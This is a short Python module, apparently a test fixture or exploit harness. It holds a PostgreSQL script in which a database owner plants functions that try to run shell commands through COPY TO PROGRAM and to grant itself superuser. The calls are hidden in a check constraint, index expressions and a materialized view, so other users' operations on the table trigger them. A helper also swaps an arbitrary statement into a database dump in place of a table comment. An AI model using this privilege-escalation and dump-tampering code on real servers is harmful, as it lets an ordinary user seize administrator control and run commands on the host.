"""A database of PostgreSQL whose owner wants to be the server's administrator, by what others do with its data."""

from __future__ import annotations

SCRIPT = """
cd /; runuser -u postgres -- psql -qX -v ON_ERROR_STOP=1 -d shop <<'SQL'
SET ROLE shop; CREATE EXTENSION citext; CREATE EXTENSION "uuid-ossp";
CREATE FUNCTION seize() RETURNS int LANGUAGE plpgsql AS $$ BEGIN
BEGIN EXECUTE $x$COPY (SELECT 1) TO PROGRAM 'touch seized'$x$; EXCEPTION WHEN OTHERS THEN NULL; END;
BEGIN EXECUTE 'ALTER ROLE shop SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN 1; END $$;
CREATE FUNCTION quiet(n bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE
AS $$ BEGIN PERFORM public.seize(); RETURN n; END $$;
CREATE TABLE trap (id uuid DEFAULT uuid_generate_v4(), email citext, n bigint CHECK (quiet(n) = n));
INSERT INTO trap (email, n) VALUES ('A@example.com', 1); CREATE MATERIALIZED VIEW seen AS SELECT quiet(1);
CREATE INDEX ON trap (quiet(1)); CREATE INDEX ON trap (quiet(n));
COMMENT ON TABLE trap IS 'a comment that is long enough for another statement';
SQL
"""
"""A shell's, on the database's host. An index with a constant in it is called by whoever plans a query of its table."""

GONE = "DROP TABLE trap; DROP MATERIALIZED VIEW seen; DROP FUNCTION quiet; DROP FUNCTION seize"
"""SQL that takes it away again."""

_COMMENT = b"COMMENT ON TABLE public.trap IS 'a comment that is long enough for another statement';"


def changed(dump: bytes, statement: bytes) -> bytes:
    """Its dump, which says something else in the place of a comment."""
    assert _COMMENT in dump
    return dump.replace(_COMMENT, statement.ljust(len(_COMMENT)))
